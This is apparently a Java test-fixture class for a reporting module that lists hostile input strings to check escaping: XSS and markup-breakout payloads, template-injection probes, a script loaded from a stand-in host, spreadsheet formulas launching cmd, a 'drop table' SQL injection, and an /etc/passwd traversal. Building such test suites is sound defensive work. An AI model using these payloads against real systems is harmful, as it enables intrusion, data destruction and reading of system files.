package dev.parallax.report;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run, or break out, on a page that took payload for markup. Each would call {@code alert} if it ran. */
final class HostilePayloads {

    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img/src=\"x\"/onerror=alert(1)>",
            "<img src=x:alert(1) onerror=eval(src)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=javascript:alert(1)>",
            "<embed src=javascript:alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<select autofocus onfocus=alert(1)>",
            "<textarea autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<form><button formaction=javascript:alert(1)>x",
            "<base href=javascript:alert(1)//>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<style>@import 'javascript:alert(1)';</style>",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\u00adscript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)",
            "//evil.example/%2e%2e");

    private static final List<String> BREAKOUTS = List.of(
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "\" onmouseover=alert(1) x=\"",
            "' onmouseover=alert(1) x='",
            "` onmouseover=alert(1) x=`",
            "\" autofocus onfocus=alert(1) \"",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "</code></pre><script>alert(1)</script>",
            "</td></tr></table><script>alert(1)</script>",
            "--><script>alert(1)</script>",
            "]]><script>alert(1)</script>",
            "*/alert(1)/*",
            "';alert(1);//",
            "\";alert(1);//",
            "\\\";alert(1);//",
            "${alert(1)}",
            "{alert(1)}",
            "{{constructor.constructor('alert(1)')()}}",
            "{#if true}alert(1){/if}",
            "{inject:vertx}",
            "{cdi:config}",
            "{config:property('parallax.jdbc-url')}",
            "{str:builder}",
            "{global:x}",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\u2028alert(1)//",
            "\u202e<script>alert(1)</script>",
            "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
            "<\u0441cript>alert(1)</\u0441cript>",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "'; drop table tenant; --",
            "../../../../etc/passwd",
            "?x=1&y=2#z",
            "%2F%2E%2E%2F");

    private HostilePayloads() {}

    static List<String> all() {
        List<String> all = new ArrayList<>(SCRIPTS);
        all.addAll(BREAKOUTS);
        return List.copyOf(all);
    }
}
